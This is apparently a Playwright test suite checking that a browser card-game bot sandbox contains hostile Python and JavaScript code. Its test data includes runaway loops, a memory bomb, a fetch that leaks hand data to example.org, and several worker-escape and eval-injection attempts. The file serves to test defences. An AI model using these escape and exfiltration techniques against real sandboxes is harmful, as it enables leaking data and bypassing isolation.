"""The bot workbench in Chromium: testing a file, hostile files, worker limits, a log, a seat."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from e2e import axe, met
from e2e.hands import LIVE, reload, rest
from e2e.watch import Watch
from ortalab.serving import FOLDER, Handler

if TYPE_CHECKING:
    import io
    from collections.abc import Iterator
    from typing import BinaryIO

    from playwright.sync_api import BrowserContext, Page

HOSTILE = """
def comp10001huxxy_play(history, player, hand, table):
    if len(history) < 4 + player:
        return player, 0, None
    if player == 0:
        while True:
            pass
    if player == 1:
        while True:
            print("x" * (1 << 20))
    if player == 2:
        print("<b>asks</b>"); import js
        from pyodide.ffi import run_sync
        return js.fetch("https://example.org/?" + hand[0])
    return bytearray(1 << 30)
"""
"""Hostile programs by seat: loops, endless output, forbidden requests, too much memory."""
REASONS = (
    "a play took longer than 2 s",
    "it printed more than 64 KiB in one play",
    "AttributeError: fetch, line 14",
    "MemoryError, line 15",
)
PICKS = "def comp10001huxxy_play(history, player, hand, table):\n    return player, 0, None\n"


@pytest.fixture
def page(context: BrowserContext, address: str) -> Iterator[Page]:
    """Yield the page with a deal; at the end, check for errors and foreign requests."""
    page = context.new_page()
    watch = Watch(page, address)
    page.goto(f"{address}huxxy/#1-7")
    page.wait_for_selector(LIVE, state="attached")
    yield page
    watch.close()


def test_a_hostile_bot_forfeits_its_games_and_harms_nothing(page: Page) -> None:
    page.click("#place-workbench")
    expect(page.locator("#bot-hint")).to_contain_text("The file is empty")
    expect(page.locator("#bot-hint")).to_contain_text("It stays in this browser.")
    assert axe.faults(page) == []
    page.fill("#bot-text", HOSTILE.replace("table):", "table:"))
    expect(page.locator("#bot-hint")).to_contain_text("The file cannot run. SyntaxError: ", timeout=60_000)
    expect(page.locator("#run-games")).to_be_disabled()
    page.fill("#bot-text", HOSTILE)
    expect(page.locator("#bot-hint")).to_contain_text("being tested")
    page.fill("#bot-games", "4")
    page.click("#run-games")
    page.click("#place-table")  # the page stays responsive
    expect(page.locator("#end-turn")).to_be_visible()
    page.click("#place-workbench")
    expect(page.locator("#notice")).to_contain_text("Four games: 0% of the wins", timeout=120_000)
    assert page.locator(".fft span").all_inner_texts() == [f"{why[0].upper()}{why[1:]}." for why in REASONS]
    page.click("#forfeit-2")
    expect(page.locator(".flop")).to_contain_text("AttributeError: fetch")
    expect(page.locator(".printed pre")).to_have_text("<b>asks</b>")
    page.click("#play-back")
    assert (axe.faults(page), met.untested(page)) == ([], [])
    with page.expect_download() as download:
        page.click("#save-log")
    assert download.value.suggested_filename == "huxxy-game-3.jsonl"
    *_, end = Path(download.value.path()).read_text("utf-8").splitlines()
    assert json.loads(end)["forfeit"] == 2
    page.click("#place-table")
    page.wait_for_url("**/huxxy/#1-7*")


MINE = """\
def comp10001huxxy_score(cards):
    return sum("A234567890JQK".index(card[0]) for card in cards)

def comp10001huxxy_valid_table(groups):
    print("groups", groups)
    return all(len({card[0] for card in group}) == 1 and len(group) > 2 for group in groups)
"""


def test_a_file_is_tested_as_typed_and_its_wrong_case_drawn_as_cards(page: Page) -> None:
    page.click("#place-workbench")
    page.fill("#bot-text", MINE)
    expect(page.locator("#notice")).to_have_text("Two functions found, none right.", timeout=60_000)
    squares = page.locator(".fn .sq").evaluate_all("(all) => all.map((one) => one.getAttribute('aria-label'))")
    assert squares == ["wrong", "wrong", "missing", "missing"]
    assert page.locator("#out-name").inner_text() == "score says 0"
    expect(page.locator(".out .card[data-rank='A']")).to_be_visible()
    page.click("#case-valid_table")
    expect(page.locator("#out-name")).to_have_text("valid_table says True")
    expect(page.locator(".prt").first).to_contain_text("groups [[")
    assert axe.faults(page) == []
    page.set_viewport_size({"width": 390, "height": 844})
    page.click("#tab-cases")
    expect(page.locator("#bot-text")).to_be_hidden()
    expect(page.locator(".cs .card").first).to_be_visible()
    assert axe.faults(page) == []
    page.set_viewport_size({"width": 1280, "height": 720})
    expect(page.locator("#bot-text")).to_be_visible()
    reload(page)
    page.click("#place-workbench")
    expect(page.locator("#bot-text")).to_have_value(MINE)
    expect(page.locator(".vers")).to_contain_text("0 of 2 right")


@pytest.mark.long
def test_a_tournament_is_cancelled_and_a_bot_plays_at_the_table(page: Page, tmp_path: Path) -> None:
    file = tmp_path / "mine.py"
    file.write_text(PICKS, encoding="utf-8")
    page.click("#place-workbench")
    with page.expect_file_chooser() as chooser:
        page.click("#open-bot")
    chooser.value.set_files(file)
    expect(page.locator("#bot-text")).to_have_value(PICKS)
    page.locator("#bot-text").press("ControlOrMeta+Home")
    page.keyboard.press("Tab")
    expect(page.locator("#bot-text")).to_have_value(f"    {PICKS}")
    page.keyboard.press("Escape")
    page.keyboard.press("Tab")
    expect(page.locator("#bot-text")).not_to_be_focused()
    page.fill("#bot-text", PICKS)
    rest(page)  # otherwise the notice on the functions would replace the one on the games
    page.click("#run-games")
    expect(page.locator(".shares")).to_be_visible(timeout=120_000)
    page.click("#stop-games")
    expect(page.locator("#notice")).to_have_text("Stopped. The finished games are kept.")
    expect(page.locator(".strip li").first).to_be_visible()
    assert (axe.faults(page), met.untested(page)) == ([], [])
    page.click("#seat-bot")
    expect(page.locator("#seats")).to_contain_text("Ada, your bot")
    assert axe.faults(page) == []
    page.click("#pick-up")
    expect(page.locator("#notice")).to_contain_text("Ada picks up.", timeout=60_000)
    expect(page.locator("#notice")).to_contain_text("Your turn.", timeout=60_000)


TRIES = """
const tries = {
    fetch: () => fetch(OUT, { mode: "no-cors" }),
    import: () => import(OUT + "x.js"),
    script: () => importScripts(OUT + "x.js"),
    request: () => new Promise((ok, lost) => {
        const one = new XMLHttpRequest();
        one.onload = ok;
        one.onerror = () => lost(new Error("refused"));
        one.open("GET", OUT);
        one.send();
    }),
    socket: () => new Promise((ok, lost) => {
        const one = new WebSocket(OUT.replace("http", "ws"));
        one.onopen = ok;
        one.onerror = () => lost(new Error("refused"));
    }),
    events: () => new Promise((ok, lost) => {
        const one = new EventSource(OUT);
        one.onopen = ok;
        one.onerror = () => lost(new Error("refused"));
    }),
    worker: () => new Promise((ok, lost) => {
        const text = `fetch("${OUT}").then(() => postMessage(1), () => postMessage(0))`;
        const one = new Worker("data:text/javascript," + encodeURIComponent(text));
        one.onmessage = ({ data }) => (data ? ok() : lost(new Error("refused")));
        one.onerror = () => lost(new Error("refused"));
    }),
    text: () => Function("return import(self.name)")(),
    evaluation: () => (0, eval)("1"),
    database: () => { indexedDB.open("x"); },
    caches: () => caches.open("x"),
};
(async () => {
    const told = {};
    for (const [name, act] of Object.entries(tries))
        told[name] = await (async () => act())().then(() => "done", () => "refused");
    postMessage({ ...told, origin: self.origin });
})();
"""


def test_the_policy_lets_no_request_out_of_a_bots_worker(watched: tuple[Page, Watch], address: str) -> None:
    """Test the page's policy and the worker's separate origin."""
    page, _ = watched
    heard: list[str] = []

    class Out(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def log_message(self, *_: object) -> None: ...

    outside = HTTPServer(("127.0.0.1", 0), Out)
    threading.Thread(target=outside.serve_forever, daemon=True).start()
    page.goto(f"{address}huxxy/")
    script = f"const OUT = 'http://127.0.0.1:{outside.server_port}/';{TRIES}"
    told = page.evaluate(
        """(text) => new Promise((ok, lost) => {
            const worker = new Worker("data:text/javascript," + encodeURIComponent(text));
            worker.onmessage = ({ data }) => ok(data);
            worker.onerror = ({ message }) => lost(message);
        })""",
        script,
    )
    outside.shutdown()
    outside.server_close()
    assert told.pop("origin") == "null"
    assert (set(told.values()), heard) == ({"refused"}, []), told


FULL = "Storage.prototype.setItem = () => { throw new DOMException('full'); };"


def test_the_workbench_says_that_the_browser_does_not_keep_the_file(context: BrowserContext, address: str) -> None:
    page = context.new_page()
    page.add_init_script(FULL)
    page.goto(f"{address}huxxy/#1-7")
    page.wait_for_selector(LIVE, state="attached")
    page.click("#place-workbench")
    expect(page.locator("#bot-hint")).to_contain_text("This browser does not store it: save the file yourself.")


WHISPERS = """
import js
import pyodide_js

HOST = {host!r}
WAYS = {{
    "function": lambda text: js.Function(text)(),
    "constructor": lambda text: js.Function.prototype.constructor(text)(),
    "evaluation": lambda text: js.eval("(() => {{" + text + "}})()"),
    "timer": lambda text: js.setTimeout(text, 0),
    "package": lambda text: pyodide_js.loadPackage(HOST + "sw.js?package"),
}}

def comp10001huxxy_score(cards, calls=[]):
    if calls:
        return 0
    calls.append(cards)
    text = "return import('" + HOST + "sw.js?" + "-".join(cards) + "').catch(() => 0)"
    print("asked")
    for way in WAYS.values():
        try:
            way(text)
        except Exception:
            pass
"""


def test_a_function_reaches_not_even_the_host_of_the_page(
    page: Page, address: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The inherited policy lets its worker import the page's own files, but not turn text into a script."""
    heard: list[str] = []
    send_head = Handler.send_head

    def listen(handler: Handler) -> io.BytesIO | BinaryIO | None:
        heard.append(handler.path)
        return send_head(handler)

    monkeypatch.setattr(Handler, "send_head", listen)
    page.click("#place-workbench")
    page.fill("#bot-text", WHISPERS.format(host=address))
    expect(page.locator("#notice")).to_have_text("One function found, none right.", timeout=60_000)
    expect(page.locator(".prt").first).to_have_text("asked")
    page.evaluate("fetch('../sw.js?page')")  # the host hears the page itself
    assert [path for path in heard if "?" in path] == [f"{FOLDER}sw.js?page"]
